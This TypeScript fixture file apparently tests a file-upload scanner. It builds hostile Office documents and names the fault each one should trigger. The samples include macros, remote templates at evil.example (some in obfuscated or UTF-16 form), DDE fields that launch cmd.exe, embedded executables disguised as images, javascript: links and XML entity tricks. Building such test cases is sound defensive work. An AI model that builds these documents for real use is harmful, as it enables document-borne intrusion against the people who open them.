import { strToU8, type Zippable, zipSync } from 'fflate'
import type { FileFault } from '../policy.ts'
import { COMPOUND, DOCTYPE, EXE, type Hostile, HTML, office, relation, SVG } from './build.ts'

const one = (what: string, bytes: Uint8Array, fault: FileFault, name = 'a.docx'): Hostile => ({
  what,
  name,
  bytes,
  fault,
})
const word = (parts: Zippable): Uint8Array => office('docx', parts)
const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const field = (codes: string[]): Uint8Array =>
  strToU8(`<w:p>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}</w:p>`)
const sheet = (parts: Zippable): Uint8Array => office('xlsx', parts)

export const HOSTILE_OFFICE: readonly Hostile[] = [
  one('a macro document', office('docx', {}, macro), 'type_not_allowed', 'a.docm'),
  one('a macro document called docx', office('docx', {}, macro), 'macros'),
  one('a macro project without its type', word({ 'word/vbaProject.bin': strToU8('x') }), 'macros'),
  one('a macro project in another folder', word({ 'x/VBAPROJECT.BIN': strToU8('x') }), 'macros'),
  one('ActiveX', word({ 'word/activeX/activeX1.xml': strToU8('<a/>') }), 'macros'),
  one('an Excel 4 macro sheet', sheet({ 'xl/macrosheets/sheet1.xml': strToU8('<a/>') }), 'macros', 'a.xlsx'),
  one(
    'a remote template',
    word({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }),
    'active_content',
  ),
  one(
    'a remote template spelled by references',
    word({ 'word/_rels/settings.xml.rels': relation('attached&#84;empl&#x61;te', 'https://evil.example/t') }),
    'active_content',
  ),
  one(
    'a remote template in UTF-16',
    word({
      'word/_rels/a.rels': Buffer.from(relation('attachedTemplate', 'http://evil.example'))
        .toString('latin1')
        .split('')
        .reduce((all, char) => Buffer.concat([all, Buffer.from(char, 'utf16le')]), Buffer.from('fffe', 'hex')),
    }),
    'active_content',
  ),
  one(
    'a linked object',
    word({ 'word/_rels/document.xml.rels': relation('oleObject', 'https://evil.example/x') }),
    'active_content',
  ),
  one(
    'a link that runs',
    word({ 'word/_rels/document.xml.rels': relation('hyperlink', 'javascript:alert(1)') }),
    'active_content',
  ),
  one(
    'a link to a share',
    word({ 'word/_rels/document.xml.rels': relation('image', '\\\\evil.example\\share\\a.png') }),
    'active_content',
  ),
  one(
    'a link to a local file',
    word({ 'word/_rels/document.xml.rels': relation('hyperlink', 'file:///c:/windows/system32/calc.exe') }),
    'active_content',
  ),
  one('an embedded object', word({ 'word/embeddings/oleObject1.bin': COMPOUND }), 'active_content'),
  one('an embedded program', word({ 'word/embeddings/setup.exe': EXE }), 'active_content'),
  one('a program called picture', word({ 'word/media/image1.png': EXE }), 'active_content'),
  one('an archive called picture', word({ 'word/media/image1.png': zipSync({ a: strToU8('a') }) }), 'active_content'),
  one('an SVG picture', word({ 'word/media/image1.svg': strToU8(SVG) }), 'active_content'),
  one('an imported page', word({ 'word/chunk.html': strToU8(HTML) }), 'active_content'),
  one(
    'a DDE field',
    word({ 'word/document.xml': field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe']) }),
    'active_content',
  ),
  one('a DDE field in pieces', word({ 'word/document.xml': field(['DD', 'EAU', 'TO "cmd"']) }), 'active_content'),
  one(
    'a DDE link',
    sheet({
      'xl/externalLinks/externalLink1.xml': strToU8(
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
    }),
    'active_content',
    'a.xlsx',
  ),
  one(
    'a program started by a slide',
    office('pptx', { 'ppt/slides/slide1.xml': strToU8('<a:hlinkClick action="ppaction://program"/>') }),
    'active_content',
    'a.pptx',
  ),
  one('entities', word({ 'word/document.xml': strToU8(DOCTYPE) }), 'active_content'),
  one(
    'entities in UTF-16',
    sheet({ 'xl/sharedStrings.xml': Buffer.from(`\ufeff${DOCTYPE}`, 'utf16le') }),
    'active_content',
    'a.xlsx',
  ),
  one(
    'macros in an embedded document',
    word({ 'word/embeddings/a.docx': office('docx', { 'word/vbaProject.bin': strToU8('x') }) }),
    'macros',
  ),
  one(
    'documents nested twice',
    word({ 'word/embeddings/a.docx': word({ 'word/embeddings/b.docx': word({}) }) }),
    'active_content',
  ),
]
